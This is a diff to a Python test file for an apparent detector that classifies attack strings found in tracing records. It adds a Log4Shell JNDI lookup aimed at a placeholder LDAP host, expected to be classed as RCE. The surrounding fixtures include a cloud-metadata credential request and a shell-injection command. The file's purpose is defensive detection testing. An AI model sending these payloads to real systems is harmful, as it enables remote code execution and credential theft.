@@ -406,9 +406,9 @@ def test_a_reported_operation_holds_its_own_statement(engine: Engine) -> None:
     of Langfuse's). In a record of that kind, that class is its subject (a model's, every
     class but XSS), and so it is in a field named for it (a Zipkin span's tag `sql.query`)
     or for the peer the operation reached (`server.address`: its address); a server span's
-    request (`http.target`) is a record of whatever came in, every class but XSS. Any other
-    class counts, and so does the same statement in a record of another kind or in no
-    record."""
+    request (`http.target`) is a record of whatever came in, every class but XSS and
+    Log4Shell. Any other class counts, and so does the same statement in a record of
+    another kind or in no record."""
     sql = "UPDATE orders SET status = 'shipped' WHERE id = 42"
     imds = "GET http://169.254.169.254/latest/meta-data/iam/security-credentials/"
     command = "sh -c 'convert in.png out.pdf; rm -f in.png'"
@@ -483,6 +483,7 @@ def test_a_reported_operation_holds_its_own_statement(engine: Engine) -> None:
     for key in ("http.target", "url.query", "url.full", "user_agent.original"):
         assert types(otlp(key, probe)) == set(), key
     assert types(otlp("http.target", XSS)) == {"xss"}
+    assert types(otlp("user_agent.original", "${jndi:ldap://198.51.100.7/a}")) == {"rce"}
     assert types([zipkin | {"tags": {"http.path": probe}}]) == set()
     assert types([zipkin | {"tags": {"sql.query": XSS}}]) == {"xss"}
     assert types([zipkin | {"tags": {"error": sql}}]) == {"sqli"}
